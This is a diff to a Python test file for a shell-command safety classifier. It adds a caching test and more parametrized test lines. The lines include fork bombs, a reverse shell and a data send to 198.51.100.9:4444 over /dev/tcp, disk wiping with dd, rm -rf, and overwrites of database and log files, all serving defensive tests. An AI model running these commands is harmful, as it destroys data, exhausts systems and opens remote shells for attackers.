@@ -92,6 +92,33 @@ def test_a_path_under_a_missing_folder_asks_the_disk_once_per_part_that_exists(
     assert len(asked) == len(tmp_path.parts)  # every part that exists, and the first that does not
 
 
+def test_a_line_asks_the_disk_once_per_folder_and_forgets_the_answers_after(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    """Four parts of one line under the same folders ask each folder of the disk once; the answers
+    are the line's alone: the next call asks again (a link planted between two calls is seen, above)."""
+    asked: list[str] = []
+    real_lstat = os.lstat
+
+    def lstat(path: str) -> os.stat_result:
+        asked.append(path)
+        return real_lstat(path)
+
+    monkeypatch.setattr(facts.os, "lstat", lstat)
+    (tmp_path / "data").mkdir()
+    line = "; ".join(f"rm -rf {tmp_path}/data/{name}" for name in ("a", "b", "c", "d"))
+    first = classify_command(line, cwd=str(tmp_path), env={"HOME": str(tmp_path)})
+    assert asked and len(asked) == len(set(asked))
+    assert facts._LINE_MODES.get() is None
+    once = len(asked)
+    second = classify_command(line, cwd=str(tmp_path), env={"HOME": str(tmp_path)})
+    assert len(asked) == 2 * once and second == first
+    # outside a judged line (a hook placing one path) nothing is kept: every call asks
+    info = classify_path(f"{tmp_path}/data/a", str(tmp_path), str(tmp_path), {})
+    facts.through_real_link(info, str(tmp_path), str(tmp_path), {})
+    facts.through_real_link(info, str(tmp_path), str(tmp_path), {})
+    assert len(asked) == 2 * once + 2 * (len(Path(f"{tmp_path}/data/a").parts) - 1)
+
+
 def test_links_on_the_way_are_still_followed(tmp_path: Path) -> None:
     """A linked folder anywhere on the way (`cfg -> ~/.claude`) resolves to what it points at."""
     home, project = _settings_home(tmp_path)
@@ -106,13 +133,16 @@ _WILDCARD_LINES = [
     "ls -la", "frob /etc/shadow", "frob -o /etc/cron.d/job URL", "echo x > ~/.bashrc", "cp a.txt /etc/hosts",
     "sudo frob --delete /", "tee -a /var/log/auth.log", "frob -c ':!/bin/sh'", "sed -i s/a/b/ .git/config",
     "mytool publish --to prod", "dd if=/dev/zero of=/dev/sda", "cat x > /dev/tcp/198.51.100.9/4444",
+    ": > orders.csv", "job.sh >> /var/log/job.log 2>&1", "frob > /var/lib/mysql/ibdata1", ":(){ :|:& };:",
+    "bomb(){ bomb | bomb & }; bomb", "sh -i >& /dev/tcp/198.51.100.9/4444 0>&1", "frob 2> /var/log/auth.log",
 ]
 
 
 @pytest.mark.parametrize("line", _WILDCARD_LINES)
 def test_the_rules_for_every_program_left_out_are_those_that_cannot_match(line: str) -> None:
-    """A rule for every program is skipped without an unknown program (or without a written path)
-    only when it would fail there: the filtered set matches exactly what the whole set matches."""
+    """A rule for every program is skipped without an unknown program (or without a written path, a
+    redirect, a function that spawns itself) only when it would fail there: the filtered set matches
+    exactly what the whole set matches."""
     from dongle.classify.command import _facts
     from dongle.rules.engine import load_rules, matches
     from dongle.shell.parse import parse_command
@@ -125,6 +155,8 @@ def test_the_rules_for_every_program_left_out_are_those_that_cannot_match(line: 
             every = [r.id for r in rules.wildcard if matches(r, f)]
             kept = [r.id for r in rules.wildcards(unknown, bool(f.write_paths)) if matches(r, f)]
             assert kept == every
+            state = (unknown, bool(f.write_paths), bool(inv.redirects), inv.spawns_self)
+            assert [r.id for r in rules.wildcards(*state) if matches(r, f)] == every
 
 
 def test_the_quicker_init_keeps_what_a_frozen_dataclass_promises() -> None:
